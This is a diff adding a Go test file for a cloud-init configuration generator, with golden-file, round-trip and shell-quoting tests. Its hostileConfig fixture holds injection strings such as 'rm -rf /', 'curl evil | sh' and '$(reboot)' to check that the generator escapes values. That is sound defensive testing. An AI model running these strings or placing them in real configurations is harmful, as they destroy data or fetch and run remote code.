@@ -0,0 +1,216 @@
+package generator
+
+import (
+	"flag"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+	"gopkg.in/yaml.v3"
+
+	"github.com/jaspreet-dot-casa/cloud-init/pkg/config"
+)
+
+var update = flag.Bool("update", false, "update golden files")
+
+func basicConfig() *config.FullConfig {
+	cfg := config.NewFullConfig()
+	cfg.Username = "testuser"
+	cfg.Hostname = "test-host"
+	cfg.SSHPublicKeys = []string{"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAITest test@example.com"}
+	cfg.FullName = "Test User"
+	cfg.Email = "test@example.com"
+	cfg.DisabledPackages = []string{"lazygit"}
+	return cfg
+}
+
+func hostileConfig() *config.FullConfig {
+	cfg := config.NewFullConfig()
+	cfg.Username = "o'brien"
+	cfg.Hostname = "host: name # not a comment"
+	cfg.SSHPublicKeys = []string{
+		"ssh-ed25519 AAAAC3 key: with colon",
+		"ssh-rsa AAAAB3 \"quoted\" #hash",
+	}
+	cfg.FullName = "Robert \"Bobby\" O'Brien: CEO\nInjected: line"
+	cfg.Email = "bobby+test@example.com $(reboot) `id`"
+	cfg.MachineName = "- list item"
+	cfg.TailscaleAuthKey = "tskey-'; rm -rf / #"
+	cfg.GithubUser = "user\"; curl evil | sh; \""
+	cfg.RepoURL = "https://example.com/repo.git\" && reboot \""
+	cfg.RepoBranch = "feature/a:b"
+	cfg.GitDefaultBranch = "trunk\"; reboot; \""
+	cfg.GitPager = "less -R $(reboot)"
+	cfg.DisabledPackages = []string{"lazygit", "fzf", "bat"}
+	return cfg
+}
+
+func TestCloudConfig_Golden(t *testing.T) {
+	tests := []struct {
+		name string
+		cfg  *config.FullConfig
+	}{
+		{"basic", basicConfig()},
+		{"hostile", hostileConfig()},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, err := NewCloudConfig(tt.cfg).Marshal()
+			require.NoError(t, err)
+
+			golden := filepath.Join("testdata", tt.name+".golden.yaml")
+			if *update {
+				require.NoError(t, os.WriteFile(golden, got, 0644))
+			}
+
+			want, err := os.ReadFile(golden)
+			require.NoError(t, err)
+			assert.Equal(t, string(want), string(got))
+		})
+	}
+}
+
+func TestCloudConfig_HostileInputsRoundTrip(t *testing.T) {
+	cfg := hostileConfig()
+	data, err := NewCloudConfig(cfg).Marshal()
+	require.NoError(t, err)
+	require.True(t, strings.HasPrefix(string(data), "#cloud-config\n"))
+
+	var parsed CloudConfig
+	require.NoError(t, yaml.Unmarshal(data, &parsed))
+
+	// Values survive as data and do not change the document structure
+	require.Len(t, parsed.Users, 1)
+	assert.Equal(t, cfg.Username, parsed.Users[0].Name)
+	assert.Equal(t, cfg.SSHPublicKeys, parsed.Users[0].SSHAuthorizedKeys)
+	assert.Equal(t, cfg.Hostname, parsed.Hostname)
+	assert.Len(t, parsed.WriteFiles, 4)
+	assert.Equal(t, cfg.TailscaleAuthKey+"\n", parsed.WriteFiles[1].Content)
+	assert.Equal(t, basePackages, parsed.Packages)
+
+	// Every disabled package export stays inside the bootstrap script
+	for _, name := range cfg.DisabledPackages {
+		envVar := "PACKAGE_" + strings.ToUpper(name) + "_ENABLED=false"
+		assert.Contains(t, parsed.WriteFiles[0].Content, envVar)
+	}
+}
+
+func TestCloudConfig_ScriptsAreValidShell(t *testing.T) {
+	bash, err := exec.LookPath("bash")
+	if err != nil {
+		t.Skip("bash not available")
+	}
+
+	c := NewCloudConfig(hostileConfig())
+	scripts := []string{c.WriteFiles[0].Content, c.WriteFiles[2].Content}
+	scripts = append(scripts, c.RunCmd...)
+
+	for i, script := range scripts {
+		out, err := exec.Command(bash, "-n", "-c", script).CombinedOutput()
+		assert.NoError(t, err, "script %d: %s", i, out)
+	}
+}
+
+func TestCloudConfig_PackageScripts(t *testing.T) {
+	cfg := basicConfig()
+	cfg.PackageScripts = []config.PackageScript{
+		{Name: "gh", File: "github-cli.sh", Content: "#!/bin/bash\necho gh\n", Override: true},
+		{Name: "internal-tool", File: "internal-tool.sh", Content: "#!/bin/bash\necho tool\n"},
+	}
+
+	c := NewCloudConfig(cfg)
+	require.Len(t, c.WriteFiles, 6)
+	assert.Equal(t, WriteFile{Path: "/opt/ucli/packages/github-cli.sh", Permissions: "755", Content: "#!/bin/bash\necho gh\n"}, c.WriteFiles[4])
+	assert.Equal(t, "/opt/ucli/packages/internal-tool.sh", c.WriteFiles[5].Path)
+
+	bootstrap := c.WriteFiles[0].Content
+	assert.Contains(t, bootstrap, `cp /opt/ucli/packages/github-cli.sh "$CLONE_DIR/scripts/packages/"`)
+	assert.Contains(t, bootstrap, `cp /opt/ucli/packages/internal-tool.sh "$CLONE_DIR/scripts/packages/"`)
+
+	// Only new packages are run explicitly; overrides run from install-all.sh
+	assert.Contains(t, bootstrap, `sudo -u "$CLONE_USER" CLOUD_INIT=true bash scripts/packages/internal-tool.sh install`)
+	assert.NotContains(t, bootstrap, "bash scripts/packages/github-cli.sh")
+	assert.Less(t, strings.Index(bootstrap, "cp /opt/ucli"), strings.Index(bootstrap, "install-all.sh"))
+	assert.Less(t, strings.Index(bootstrap, "install-all.sh"), strings.Index(bootstrap, "internal-tool.sh install"))
+}
+
+func TestCloudConfig_SpecSettings(t *testing.T) {
+	cfg := basicConfig()
+	cfg.GitDefaultBranch = "trunk"
+	cfg.GitPullRebase = false
+	cfg.TailscaleExitNode = false
+	cfg.DockerEnabled = false
+
+	c := NewCloudConfig(cfg)
+	assert.Equal(t, "sudo", c.Users[0].Groups)
+	assert.Contains(t, c.WriteFiles[2].Content, `if [[ "false" == "true" ]]; then
+    UP_FLAGS+=(--advertise-exit-node)`)
+
+	runcmd := strings.Join(c.RunCmd, "\n")
+	assert.Contains(t, runcmd, `if [ "false" = "true" ]; then
+  curl -fsSL https://download.docker.com`)
+	assert.Contains(t, runcmd, `init.defaultBranch "trunk"`)
+	assert.Contains(t, runcmd, `if [ "false" = "true" ]; then
+  sudo -u testuser git config --global pull.rebase true`)
+}
+
+func TestExpandShell(t *testing.T) {
+	bash, err := exec.LookPath("bash")
+	if err != nil {
+		t.Skip("bash not available")
+	}
+
+	value := `o'brien "$(id)" \ $HOME`
+	values := map[string]string{"NAME": value, "CODE": "echo code"}
+	code := map[string]bool{"CODE": true}
+
+	tests := []struct {
+		name   string
+		script string
+		want   string
+	}{
+		{"word", `printf '%s\n' ${NAME}`, value},
+		{"inside word", `printf '%s\n' /home/${NAME}/x`, "/home/" + value + "/x"},
+		{"double quotes", `printf '%s\n' "name: ${NAME}"`, "name: " + value},
+		{"nested shell", `bash -c 'printf "%s\n" ${NAME}'`, value},
+		{"code", "${CODE}", "code"},
+		{"escaped", `printf '%s\n' "\${NAME}"`, "${NAME}"},
+		{"other expansion", `X=1; printf '%s\n' "${X}"`, "1"},
+		{"comment", "# it's ${NAME}\nprintf '%s\\n' ${NAME}", value},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			script := expandShell(tt.script, values, code)
+			out, err := exec.Command(bash, "-c", script).CombinedOutput()
+			require.NoError(t, err, "%s: %s", script, out)
+			assert.Equal(t, tt.want+"\n", string(out), script)
+		})
+	}
+}
+
+func TestShellQuote(t *testing.T) {
+	assert.Equal(t, "alice", shellQuote("alice"))
+	assert.Equal(t, "/home/alice/.config", shellQuote("/home/alice/.config"))
+	assert.Equal(t, "''", shellQuote(""))
+	assert.Equal(t, `'o'\''brien'`, shellQuote("o'brien"))
+	assert.Equal(t, "'a b'", shellQuote("a b"))
+}
+
+func TestShellEscapeDouble(t *testing.T) {
+	assert.Equal(t, `plain`, shellEscapeDouble("plain"))
+	assert.Equal(t, `a\"b\$c\\d`+"\\`", shellEscapeDouble(`a"b$c\d`+"`"))
+}
+
+func keys(m map[string]any) []string {
+	out := make([]string, 0, len(m))
+	for k := range m {
+		out = append(out, k)
+	}
+	return out
+}